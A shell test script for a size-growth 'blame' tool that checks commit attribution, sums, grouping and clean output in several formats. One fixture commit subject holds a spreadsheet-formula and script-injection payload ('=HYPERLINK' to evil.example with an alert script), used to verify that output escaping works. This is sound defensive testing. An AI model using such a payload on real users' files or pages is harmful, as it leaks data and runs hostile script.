# SPDX-License-Identifier: GPL-2.0-or-later
# slow
# protects: growth charged by lines: to the byte what the table of the made-up history says
need_ends
cp "$ends/k.db" k.db
# range DB A..B OPTION…
range() {
	local db=$1
	shift
	ok blame --db "$db" --profile "$profile" --repo "$history" --work work "$@"
}
blame() {
	range k.db v1.0..v2.0 "$@"
}
rows() {
	python3 -c 'import json, sys; print(len(json.load(open(sys.argv[1]))))' "$1"
}
check() {
	"$CLI_DIR/history-check" "$history" "$@"
}
ok diff v1.0 v2.0 --db k.db --by class --format json
cp out diff.json
total=$(python3 -c 'import json; print(sum(r["delta"] for r in json.load(open("diff.json"))))')

blame --method lines --format json
cp out lines.json
check lines lines.json diff.json
[ ! -e work ] || fail "lines are nothing that has to be built"
before=$(dump k.db | sha256sum)
for format in table csv markdown html; do
	blame --method lines --format $format
	cp out lines.$format
done
blame --method lines --format json
cmp out lines.json
same "$before" "$(dump k.db | sha256sum)"
whole k.db
same "commit,author,subject,delta,method" "$(head -n 1 lines.csv | cut -d, -f1-5)"
grep '^total ' lines.table > last
has last "$(python3 -c "print(f'{abs($total):,}')")"

# what is known of a history needs no repository any more
ok blame v1.0..v2.0 --db k.db --profile mini --method lines --format json
cmp out lines.json
refused "the history between the two builds is not known yet: name its repository with --repo" \
	blame v1.0..v2.0 --db "$ends/k.db" --method lines

# and goes along into another database
ok db merge --db merged.db k.db
ok blame v1.0..v2.0 --db merged.db --profile mini --method lines --format json
cmp out lines.json
whole merged.db

# a repository without a work tree, and with the refs of its tags only
git clone -q --bare "$history" bare
cp "$ends/k.db" bare.db
ok blame v1.0..v2.0 --db bare.db --profile "$profile" --repo bare --method lines --format json
cmp out lines.json

# the other ways to look at it have the same sums
for by in author email_domain subsystem; do
	blame --method lines --by $by --format json
	cp out $by.json
	check sums $by.json diff.json
done
# what email_domain was called
blame --method lines --by company --format json
same "$(sed 's/"email_domain"/"company"/' email_domain.json)" "$(cat out)"
python3 - <<'END'
import json
def of(by):
    return {r[by]: r for r in json.load(open(by + '.json'))}
email_domain = of('email_domain')
for name, want in (('mm.example', 96 + 21 + 12 + 167 - 51), ('tree.example', 100 + 32 + 19),
                   ('net.example', 1 + 64 + 256 + 32 + 33 + 16 - 111 + 15), ('evil.example', 92 + 3),
                   ('sched.example', 43 - 48 + 56 + 32 - 100 - 28 + 68), ('old.example', 61)):
    got = sum(email_domain[name][c] for c in ('text', 'rodata', 'data', 'bss', 'init')) if name in email_domain else None
    assert got == want, f'{name}: {got}, not {want}'
assert any('Max Memory' in author for author in of('author')), list(of('author'))
assert {'MEMORY MANAGEMENT', 'SCHEDULER', 'NETWORKING DRIVERS', 'THE REST'} <= of('subsystem').keys()
END

# within a group: what the diff has of it
for group in 'subsystem=MEMORY MANAGEMENT' dir=mm dir=drivers/net file=mm/page.c object=kernel/fair.o class=padding \
	section=.text symbol=page_scrub; do
	ok diff v1.0 v2.0 --db k.db --by "${group%%=*}" --format json
	python3 - "$group" > want <<-'END'
	import json, sys
	key, name = sys.argv[1].split('=')
	print(sum(r['delta'] for r in json.load(open('out')) if r[key] == name))
	END
	blame --method lines --within "$group" --format json
	same "$(cat want)" "$(python3 -c 'import json; print(sum(r["delta"] for r in json.load(open("out"))))')"
done
refused "neither 'v1.0:mini:x86_64' nor 'v2.0:mini:x86_64' has anything of dir 'moon'" \
	blame v1.0..v2.0 --db k.db --profile mini --method lines --within dir=moon

# --top: so many, and the rest of them; still the same sum
blame --method lines --top 3 --format json
check sums out diff.json
[ "$(rows out)" -lt "$(rows lines.json)" ]

# builds of single commits, and one commit between two
ok collect -q --repo "$history" --profile "$profile" --work other --db pair.db $(id tick-again) $(id merge-fair)
range pair.db "$(id tick-again)..$(id merge-fair)" --method lines --format json
python3 - $(id fair) $(id merge-fair) <<'END'
import json, sys
rows = {r['commit']: r for r in json.load(open('out'))}
for i in sys.argv[1:]:
    assert [r['text'] for c, r in rows.items() if c and i.startswith(c)] == [32], rows
END
range pair.db "$(id merge-fair)..$(id merge-fair)" --method lines --format json
python3 -c 'import json; assert not any(r["delta"] for r in json.load(open("out")))'

# texts of commits, in every format
clean() {
	! LC_ALL=C grep -q "[$(printf '\001-\010\013-\037\177')]" "$1" || fail "$1 has control bytes"
	iconv -f UTF-8 -t UTF-8 "$1" > /dev/null || fail "$1 is not UTF-8"
}
for format in json table csv markdown html; do
	clean lines.$format
	has lines.$format 'Žofia Nováková'
	has lines.$format 'točí se'
done
lacks lines.html '<script'
lacks lines.html '<b>'
lacks lines.markdown '<script'
python3 - <<'END'
import csv, json, re
rows = list(csv.reader(open('lines.csv', newline='')))
assert {len(r) for r in rows} == {len(rows[0])}
for cell in (c for r in rows for c in r):
    assert not re.match(r'[=+@\t\r]|-(?!\d+$)', cell), f'a formula: {cell}'
table = [l for l in open('lines.markdown') if l.startswith('|')]
assert len({len(re.findall(r'(?<!\\)\|', l)) for l in table}) == 1
subjects = [r['subject'] or '' for r in json.load(open('lines.json'))]
assert '=HYPERLINK("http://evil.example/?"&A1,"<script>alert(1)</script>")|`tick`' in subjects, subjects
assert any(re.match('mm: .*owned.*gone', s) and s.isprintable() for s in subjects), subjects
END

# what was measured of some commits is taken instead of their lines, and adds up to the same
blame --method auto --budget 4 --format json
cp out auto.json
check sums auto.json diff.json
blame --method lines --format json
check lines out diff.json
whole k.db
